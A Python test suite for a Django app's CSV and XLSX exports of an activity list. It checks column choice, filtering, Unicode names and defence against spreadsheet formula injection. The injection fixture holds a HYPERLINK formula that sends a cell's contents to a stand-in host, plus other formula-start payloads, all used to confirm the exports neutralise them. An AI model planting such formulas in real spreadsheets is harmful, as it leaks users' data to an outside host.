"""CSV and XLSX exports of /activities/ (cases E1 and E2), read back from the bytes."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.support.factories import ActivityFactory, PartyFactory, TopicFactory, WorkingGroupFactory
from tests.support.pages import *  # noqa: F401,F403
from tests.support.pages import make_activities
from workplan.plan.exports import SafeTableExport, csv_cell

URL = reverse("workplan:activity-list")
HEADERS = ["Topic", "Activity", "Responsible", "Timeline", "Remarks", "Status"]
# The six columns of the seed's Annex I, chosen with the list's column chooser (?cols=).
SIX = ["topic", "description", "responsible", "timeline", "remarks", "status"]

FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
NAMES = ["Côte d'Ivoire", "Российская Федерация", "中国", "المغرب"]


def read_csv(response):
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def injection(wgec):
    topic = TopicFactory(group=wgec, number=1, title="Technical Specifications")
    return ActivityFactory(topic=topic, order=1, description=FORMULA, remarks="@SUM(1,1)",
                           responsible="+41 22 000 00 00", timeline_text="-", first_month=None,
                           last_month=None, status="in_progress")


def test_csv_has_exactly_the_six_columns_of_every_filtered_row(sec_client, wgec):
    """The export holds the filtered rows, all of them, not only the current page."""
    make_activities(wgec, 30)
    ActivityFactory(topic=TopicFactory(group=wgec, number=99, title="Other"), description="Not me",
                    status="completed")
    response = sec_client.get(URL, {"cols": SIX, "_export": "csv", "status": "not_started", "per_page": "10",
                                    "page": "2"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="wgec-activities.csv"'
    table = read_csv(response)
    assert table[0] == HEADERS
    assert len(table) == 1 + 30
    assert "Not me" not in {row[1] for row in table}
    first = table[1]
    assert first[0] == "1. Topic 1"
    assert first[2:] == ["Secretariat", "October 2018", "", "Not started"]


def test_xlsx_has_exactly_the_six_columns_in_sorted_order(sec_client, wgec):
    make_activities(wgec, 3)
    response = sec_client.get(URL, {"cols": SIX, "_export": "xlsx", "sort": "-topic"})
    assert response.status_code == 200
    assert response["Content-Type"] == SafeTableExport.FORMATS["xlsx"]
    sheet = read_xlsx(response)
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    assert len(values) == 4
    assert [v[0] for v in values[1:]] == ["1. Topic 1"] * 3


def test_csv_formula_cells_get_a_quote(sec_client, injection):
    """Case E1 (CSV): cells starting with = + - @ are prefixed with ' and otherwise unchanged."""
    table = read_csv(sec_client.get(URL, {"cols": SIX, "_export": "csv"}))
    topic, activity, responsible, timeline, remarks, status = table[1]
    assert activity == "'" + FORMULA
    assert responsible == "'+41 22 000 00 00"
    assert remarks == "'@SUM(1,1)"
    assert timeline == "'-"
    assert (topic, status) == ("1. Technical Specifications", "In progress")


def test_xlsx_formula_cells_are_text_holding_the_original(sec_client, injection):
    """Case E1 (XLSX): the cells are text cells (never formulas) holding the text unchanged."""
    sheet = read_xlsx(sec_client.get(URL, {"cols": SIX, "_export": "xlsx"}))
    cells = {sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c) for c in range(1, 7)}
    assert cells["Activity"].value == FORMULA
    assert cells["Remarks"].value == "@SUM(1,1)"
    assert cells["Responsible"].value == "+41 22 000 00 00"
    for cell in cells.values():
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    # And in the file itself: no <f> (formula) element anywhere in the sheet.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(sec_client.get(URL, {"cols": SIX, "_export": "xlsx"}).content)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_cell_prefixes_every_formula_start(text):
    """Case E1: the whole kind of fault, each dangerous first character."""
    assert csv_cell(text) == "'" + text
    assert csv_cell("a" + text) == "a" + text


def test_real_numbers_stay_numbers(wgec):
    """Case E1: a real number such as -5 in a numeric column stays a number in both formats."""
    import django_tables2 as tables

    class NumberTable(tables.Table):
        name = tables.Column()
        amount = tables.Column()

    table = NumberTable([{"name": "-5", "amount": -5}, {"name": "x", "amount": 2.5}])
    csv_text = SafeTableExport("csv", table).export().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(csv_text))) == [["Name", "Amount"], ["'-5", "-5"], ["x", "2.5"]]
    sheet = openpyxl.load_workbook(io.BytesIO(SafeTableExport("xlsx", table).export())).active
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == 2.5
    assert sheet["A2"].value == "-5" and sheet["A2"].data_type == "s"


def test_csv_non_ascii_names_survive(sec_client, wgec):
    """Case E2: the CSV starts with the UTF-8 BOM, decodes with utf-8-sig to the exact
    names, and says charset=utf-8."""
    topic = TopicFactory(group=wgec, number=1)
    for order, name in enumerate(NAMES, start=1):
        activity = ActivityFactory(topic=topic, order=order, description=f"Consult {name}",
                                   responsible=name)
        activity.parties.add(PartyFactory(short_name=name))
    response = sec_client.get(URL, {"cols": SIX, "_export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content[:3] == b"\xef\xbb\xbf"
    table = read_csv(response)
    assert [row[2] for row in table[1:]] == NAMES
    assert [row[1] for row in table[1:]] == [f"Consult {n}" for n in NAMES]
    sheet = read_xlsx(sec_client.get(URL, {"cols": SIX, "_export": "xlsx"}))
    assert [sheet.cell(row=r, column=3).value for r in range(2, 6)] == NAMES


def test_export_of_an_empty_list_has_the_header_only(sec_client, wgec):
    table = read_csv(sec_client.get(URL, {"cols": SIX, "_export": "csv"}))
    assert table == [HEADERS]
    sheet = read_xlsx(sec_client.get(URL, {"cols": SIX, "_export": "xlsx"}))
    assert [c.value for c in sheet[1]] == HEADERS


def test_export_holds_only_the_current_groups_rows(sec_client, wgec):
    ActivityFactory(topic=TopicFactory(group=wgec), description="Ours")
    ActivityFactory(topic=TopicFactory(group=WorkingGroupFactory(acronym="WGX", name="X")),
                    description="Theirs")
    assert [row[1] for row in read_csv(sec_client.get(URL, {"cols": SIX, "_export": "csv"}))[1:]] == ["Ours"]


def test_export_of_control_characters_does_not_fail(sec_client, wgec):
    """Text with a control character openpyxl refuses still exports (it is dropped)."""
    ActivityFactory(topic=TopicFactory(group=wgec), description="Bell\x07 here")
    response = sec_client.get(URL, {"cols": SIX, "_export": "xlsx"})
    assert response.status_code == 200
    assert read_xlsx(response)["B2"].value == "Bell here"


def test_export_requires_login(client, wgec):
    response = client.get(URL, {"cols": SIX, "_export": "csv"})
    assert response.status_code == 302
